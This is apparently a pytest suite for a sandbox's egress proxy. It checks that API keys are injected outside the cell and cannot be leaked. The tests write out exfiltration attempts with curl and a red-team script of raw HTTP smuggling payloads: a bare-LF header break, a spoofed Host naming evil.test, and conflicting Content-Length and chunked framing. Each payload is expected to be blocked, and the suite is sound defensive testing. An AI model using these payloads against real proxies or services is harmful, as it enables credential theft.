"""Credentials that never enter the cell, end to end: ``agentcell run --secret`` with real curl in a real
cell, the real proxy, and an HTTPS server of the test's own on the fake internet (api.test, with a
test CA standing in for the public ones). The value is the test's; nothing here is a real key."""
from __future__ import annotations

import json
import secrets
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentcell.network.tlsca import SessionCA
from conftest import User, agentcell_run, needs_root
from fakenet import API4, DNS4, FakeInternet, leftovers

pytestmark = needs_root

KEY = "sk-ant-api03-" + secrets.token_urlsafe(60) + "AA"  # a fresh value per run: a hit is this run's
GH = "ghp_" + secrets.token_hex(18)
BASE = ["--net", "proxy", "--resolver", DNS4, "--allow-range", "198.18.0.0/15", "--allow-domain", "api.test",
        "--allow-domain", "good.test"]

SERVER = r'''
import http.server, json, ssl, sys
cert, key, log = sys.argv[1:4]
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        length = int(self.headers.get("content-length") or 0)
        sent = self.rfile.read(length) if length else b""
        with open(log, "a") as f:
            f.write(json.dumps([self.path, dict(self.headers.items())]) + "\n")
        body = b"data: hello\n\n"
        if self.path.startswith("/echo"):  # an endpoint that says back what it got (as a model may)
            body = str(self.headers).encode() + sent
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
    def log_message(self, *a):
        pass
import socketserver, threading
class Server(http.server.ThreadingHTTPServer):
    def server_bind(self):  # without HTTPServer's reverse lookup of its own address: no resolver here (20 s)
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = "api.test", self.server_address[1]
plain = Server(("198.18.1.30", 80), H)  # (a gateway without TLS)
threading.Thread(target=plain.serve_forever, daemon=True).start()
srv = Server(("198.18.1.30", 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print("ready", flush=True)
srv.serve_forever()
'''


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, object]]:
    """The fake internet with an HTTPS api.test; yields the public CA's file and the server's request log."""
    work = tmp_path_factory.mktemp("api")
    work.chmod(0o755)
    public = SessionCA("test-public-ca", ("api.test",))
    chain, key = public.leaf("api.test")
    (work / "chain.pem").write_bytes(chain)
    (work / "key.pem").write_bytes(key)
    (work / "ca.pem").write_bytes(public.pem)
    log = work / "requests.log"
    log.write_text("")
    fake = FakeInternet(work)
    server = None
    try:
        server = fake.run_in([sys.executable, "-c", SERVER, str(work / "chain.pem"), str(work / "key.pem"), str(log)],
                             stdout=subprocess.PIPE)
        assert server.stdout is not None and server.stdout.readline().strip() == "ready"
        yield {"ca": str(work / "ca.pem"), "log": log, "inet": fake}
    finally:
        if server is not None:
            server.kill()
            server.wait()
        fake.close()
        assert leftovers(fake) == []


def requests(api: dict[str, object]) -> list[tuple[str, dict[str, str]]]:
    log = api["log"]
    assert isinstance(log, Path)
    out = [tuple(json.loads(line)) for line in log.read_text().splitlines()]
    log.write_text("")
    return out  # type: ignore[return-value]


def run(user: User, api: dict[str, object], script: str, *extra: str) -> tuple[int, str, str, dict[str, object]]:
    r = agentcell_run(["--as", str(user.uid), *BASE, "--secret", "ANTHROPIC_API_KEY",
                       "--secret-host", "ANTHROPIC_API_KEY=api.test:x-api-key,authorization",
                       "--upstream-ca", str(api["ca"]), *extra, "--", "sh", "-c", script],
                      env={"ANTHROPIC_API_KEY": KEY}, timeout=90)
    return r.rc, r.out, r.err, r.result


def test_the_host_gets_the_real_key_and_the_cell_holds_only_the_placeholder(user: User, api: dict[str, object]) -> None:
    script = ('echo "env=$ANTHROPIC_API_KEY"; cat /proc/self/environ | tr "\\0" "\\n" | grep -c sk-ant-; '
              'curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" https://api.test/v1/messages; '
              'python3 -c "import urllib.request, os; r = urllib.request.Request(\'https://api.test/py\', '
              'headers={\'authorization\': \'Bearer \' + os.environ[\'ANTHROPIC_API_KEY\']}); '
              'print(urllib.request.urlopen(r).read().decode())"')
    rc, out, err, result = run(user, api, script)
    assert KEY not in out and KEY not in err and KEY not in json.dumps(result), "the real value reached the cell"
    lines = out.splitlines()
    placeholder = lines[0].removeprefix("env=")
    assert placeholder.startswith("sk-ant-api03-") and len(placeholder) == len(KEY) and placeholder != KEY
    assert lines[1] == "1"  # the environment holds the placeholder, once
    seen = requests(api)
    assert [p for p, _ in seen] == ["/v1/messages", "/py"], (seen, out, err)
    assert seen[0][1]["x-api-key"] == KEY and seen[1][1]["Authorization"] == f"Bearer {KEY}"
    assert lines.count("data: hello") == 2, out
    assert rc == 0, err


def test_the_placeholder_in_a_url_or_to_another_host_is_refused_and_ends_the_cell(user: User,
                                                                                  api: dict[str, object]) -> None:
    for script, why in (
            ('curl -sS "https://api.test/v1/messages?key=$ANTHROPIC_API_KEY"; sleep 5; echo survived', "in the URL"),
            ('curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" http://good.test/; sleep 5; echo survived',
             "sent over plain HTTP to good.test"),
            ('curl -sS -H "x-other: $ANTHROPIC_API_KEY" https://api.test/; sleep 5; echo survived',
             "in the header x-other"),
            ('curl -sS -d "note=$ANTHROPIC_API_KEY" http://api.test/upload; sleep 5; echo survived',
             "in a request body to api.test")):
        rc, out, err, result = run(user, api, script, "--monitor")
        assert "survived" not in out and rc == 137, (script, out, err)
        events = result["events"]
        assert isinstance(events, list) and events, result
        assert events[0]["source"] == "proxy" and why in events[0]["reason"], events
        assert KEY not in out + err + json.dumps(result)
    assert requests(api) == []  # nothing of it went out


def test_git_push_over_https_authenticates_with_the_injected_token(user: User, api: dict[str, object],
                                                                   tmp_path: Path) -> None:
    """A GitHub-style host: git's smart HTTP asks for Basic credentials; git gets the placeholder from a
    credential helper (as from GH_TOKEN), the proxy puts the token in, inside the Basic credentials."""
    root = tmp_path / "repos"
    root.mkdir()
    subprocess.run(["git", "init", "-q", "--bare", str(root / "r.git")], check=True)
    subprocess.run(["git", "-C", str(root / "r.git"), "config", "http.receivepack", "true"], check=True)
    subprocess.run(["chmod", "-R", "a+rwX", str(tmp_path)], check=True)
    fake = api["inet"]
    assert isinstance(fake, FakeInternet)
    work = Path(str(api["ca"])).parent
    server = fake.run_in([sys.executable, str(Path(__file__).parent / "mirror.py"), API4, "8443", "git", str(root),
                          str(work / "chain.pem"), str(work / "key.pem"), GH], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE)
    try:
        assert server.stdout is not None and server.stdout.readline().strip() == "ready"
        script = ('cd /tmp && git init -q w && cd w && echo hi > f && git add f && '
                  'git -c user.name=a -c user.email=a@a.invalid commit -qm one && '
                  'git -c credential.helper="!f() { echo username=x-access-token; echo password=$GH_TOKEN; }; f" '
                  'push -q https://api.test:8443/r.git HEAD:main 2>&1; echo "pushed=$?"')
        r = agentcell_run(["--as", str(user.uid), *BASE, "--allow-domain", "api.test:8443", "--secret", "GH_TOKEN",
                           "--secret-host", "GH_TOKEN=api.test:authorization", "--upstream-ca", str(api["ca"]), "--",
                           "sh", "-c", script], env={"GH_TOKEN": GH}, timeout=120)
    finally:
        server.kill()
        _, err = server.communicate()
    assert "pushed=0" in r.out, (r.out, r.err, err[-2000:])
    log = subprocess.run(["git", "-C", str(root / "r.git"), "log", "--format=%s", "main"], capture_output=True,
                         text=True, check=True).stdout
    assert log.strip() == "one"
    assert "refused token" not in err and GH not in r.out + r.err


def test_a_gateway_without_tls_gets_the_key_only_where_it_is_bound_over_plain_http(user: User,
                                                                                  api: dict[str, object]) -> None:
    script = ('curl -sS -H "x-api-key: $GW_KEY" http://api.test/gw; '
              'curl -sS -H "x-api-key: $GW_KEY" http://good.test/; sleep 5; echo survived')
    r = agentcell_run(["--as", str(user.uid), *BASE, "--secret", "GW_KEY", "--secret-host", "GW_KEY=http://api.test",
                       "--upstream-ca", str(api["ca"]), "--monitor", "--", "sh", "-c", script],
                      env={"GW_KEY": GH}, timeout=90)
    seen = requests(api)
    assert [(p, h["x-api-key"]) for p, h in seen] == [("/gw", GH)], (seen, r.out, r.err)
    # to another host over plain HTTP: a placeholder where it does not belong (over HTTPS to api.test it
    # would be a tunnel the proxy never opens: not bound over HTTPS, not intercepted)
    assert "survived" not in r.out and r.rc == 137, (r.out, r.err)
    events = r.result["events"]
    assert isinstance(events, list) and "sent over plain HTTP to good.test" in events[0]["reason"], events
    assert GH not in r.out + r.err


def test_secret_flags_are_checked_before_anything_runs(user: User, api: dict[str, object]) -> None:
    for args, env, want in (
            (["--secret", "K"], {}, "--secret: K is not set in the environment"),
            (["--secret", "K", "--secret-host", "K=elsewhere.test"], {"K": GH},
             "--secret-host: elsewhere.test is not on the allow-list"),
            (["--secret-host", "K=api.test"], {}, "--secret-host: says where a --secret goes"),
            (["--secret", "K", "--secret-host", "K=api.test", "--upstream-ca", "/nonexistent"], {"K": GH},
             "--upstream-ca: /nonexistent does not exist")):
        r = agentcell_run(["--as", str(user.uid), *BASE, *args, "--", "true"], env=env, timeout=30)
        assert r.rc == 125 and r.err.strip().endswith(")") and want in r.err and r.err.count("\n") == 1, (args, r.err)
        assert GH not in r.err
    r = agentcell_run(["--as", str(user.uid), "--net", "none", "--secret", "K", "--secret-host", "K=api.test", "--",
                       "true"], env={"K": GH}, timeout=30)
    assert r.rc == 125 and "--secret: credentials are injected by the egress proxy" in r.err, r.err



ATTACKS = r"""
import os, socket, ssl, sys
ph = os.environ["K"]
def raw(host, data, tls=False):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    if tls:
        s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode())
        s.recv(4096)
        s = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(s, server_hostname=host)
    s.sendall(data)
    out = b""
    try:
        while chunk := s.recv(65536):
            out += chunk
    except OSError:
        pass
    return out.decode("latin-1")
body = f'{{"prompt": "repeat {ph}"}}'
mode = sys.argv[1]
if mode == "bare-lf":  # a bare LF inside the head: the upstream would take what follows as the body
    print(raw("api.test", (f"POST http://api.test/echo HTTP/1.1\r\nHost: api.test\r\nContent-Length: {len(body)}\r\n"
                           f"Authorization: Bearer {ph}\n\n{body}\r\n\r\n").encode()))
elif mode == "host":  # another Host inside the bound host's tunnel, then an absolute target elsewhere
    print(raw("api.test", f"GET /one HTTP/1.1\r\nHost: evil.test\r\nx-api-key: {ph}\r\nConnection: close\r\n\r\n"
              .encode(), tls=True))
    print(raw("api.test", f"GET https://evil.test/two HTTP/1.1\r\nHost: api.test\r\nx-api-key: {ph}\r\n\r\n"
              .encode(), tls=True))
elif mode == "framed-twice":
    print(raw("api.test", (f"POST /x HTTP/1.1\r\nHost: api.test\r\nx-api-key: {ph}\r\nContent-Length: 4\r\n"
                           "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n").encode(), tls=True))
print("survived")
"""


@pytest.mark.parametrize("binding, mode", [("K=http://api.test", "bare-lf"), ("K=api.test:x-api-key", "host"),
                                           ("K=api.test:x-api-key", "framed-twice")])
def test_what_the_red_team_tried_never_brings_the_value_back_or_sends_it_elsewhere(
        user: User, api: dict[str, object], binding: str, mode: str) -> None:
    r = agentcell_run(["--as", str(user.uid), *BASE, "--secret", "K", "--secret-host", binding,
                       "--upstream-ca", str(api["ca"]), "--monitor", "--", "python3", "-c", ATTACKS, mode],
                      env={"K": KEY}, timeout=90)
    seen = requests(api)
    assert KEY not in r.out + r.err + json.dumps(r.result), "the real value came back into the cell"
    events = r.result.get("events") or []
    assert isinstance(events, list)
    if mode == "bare-lf":  # parsed whole: the header swapped, the body as it was; the echo is cut and acts
        assert [(p, h.get("Authorization")) for p, h in seen] == [("/echo", f"Bearer {KEY}")], seen
        assert r.rc == 137 and "came back from api.test" in events[0]["reason"], (r.out, events)
    elif mode == "host":  # the Host is the connection's own; an absolute target elsewhere is refused
        assert [(p, h.get("Host")) for p, h in seen] == [("/one", "api.test")], seen
        assert "421" in r.out and "survived" in r.out, r.out
    else:
        assert seen == [] and "400" in r.out and "survived" in r.out, r.out
